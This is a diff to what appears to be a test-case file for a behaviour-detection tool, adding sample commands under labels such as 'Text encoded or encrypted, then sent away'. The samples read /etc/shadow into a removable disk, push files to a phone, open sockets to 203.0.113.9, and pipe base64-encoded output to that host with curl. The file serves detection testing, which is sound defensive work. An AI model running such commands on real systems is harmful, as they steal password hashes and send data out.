@@ -17,6 +17,7 @@ ask_dns A 30 60
 #also Code without a file connects to an address without a name
 #also Code without a file waits for callers
 #also Connections of others led on by an untrusted program
+#also Port of encrypted connections used without encryption
 python3 -c '
 import socket, threading
 server = socket.create_server(("203.0.113.9", 443))
@@ -58,6 +59,7 @@ except OSError: pass'
 #setup stubs /usr/bin/mmcli
 mmcli -m 0 --messaging-create-sms="number='1',text='x'"
 ## Secret written to a removable disk
+#also Files copied from or to a removable disk
 #also Password hashes read
 #setup mkdir -p /media/stick
 python3 -c 'text = open("/etc/shadow", "rb").read(); open("/media/stick/a", "wb").write(text)'
@@ -68,3 +70,11 @@ tar -czf /media/stick/.a/b.tgz /etc/hosts
 ## Files given to a phone
 #setup stubs /usr/bin/adb
 adb push /etc/hosts /sdcard/x
+## Data looked for, then a connection by an untrusted program
+#also Code without a file connects to an address without a name
+perl -MIO::Socket::INET -e 'opendir D, "/home"; IO::Socket::INET->new("203.0.113.9:80")'
+## Text encoded or encrypted, then sent away
+#also File sent to a bare address
+id | base64 | curl -s -m 1 --data-binary @- http://203.0.113.9/
+## Folder or file poured through a login
+echo x | ssh -o BatchMode=yes 203.0.113.9 'cat > x.tgz'
